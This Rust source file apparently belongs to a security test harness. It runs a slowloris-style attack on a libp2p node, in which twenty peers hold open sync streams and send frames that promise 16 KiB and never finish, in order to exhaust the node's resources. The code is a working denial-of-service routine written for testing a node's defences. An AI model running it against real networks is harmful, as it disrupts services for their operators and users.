//! Twenty peers from one address open as many streams of fast sync as each may have, and send half a request
//! on each.

use std::time::Duration;

use libp2p::Stream;
use libp2p::futures::{AsyncReadExt, AsyncWriteExt, FutureExt};

use crate::Victim;
use crate::raw::{Failure, Raw};

const PEERS: usize = 20;
const STREAMS_PER_PEER: usize = 4;
/// A frame that promises 16 KiB, of which nothing comes.
const HALF: [u8; 3] = [0x80, 0x80, 0x01];
const PAUSE: Duration = Duration::from_millis(250);

pub(crate) async fn play(victim: &Victim) -> Result<String, Failure> {
    let mut peers = Vec::new();
    for _ in 0..PEERS {
        peers.push((Raw::connect(&victim.address, Vec::new()).await?, Vec::new()));
    }
    let mut begun = 0;
    while !victim.is_over() {
        for (peer, streams) in &mut peers {
            streams.retain_mut(stands);
            while streams.len() < STREAMS_PER_PEER
                && let Ok(mut stream) = peer.open(victim.peer, "/optimusdb/sync/1").await
                && stream.write_all(&HALF).await.is_ok()
                && stream.flush().await.is_ok()
            {
                begun += 1;
                streams.push(stream);
            }
        }
        victim.rest(PAUSE).await;
    }
    let left = peers.iter().filter(|(peer, _)| peer.is_connected()).count();
    Ok(format!("{begun} half requests by {PEERS} peers, {left} of them still connected"))
}

/// Whether the node has not ended the stream.
fn stands(stream: &mut Stream) -> bool {
    stream.read(&mut [0]).now_or_never().is_none()
}
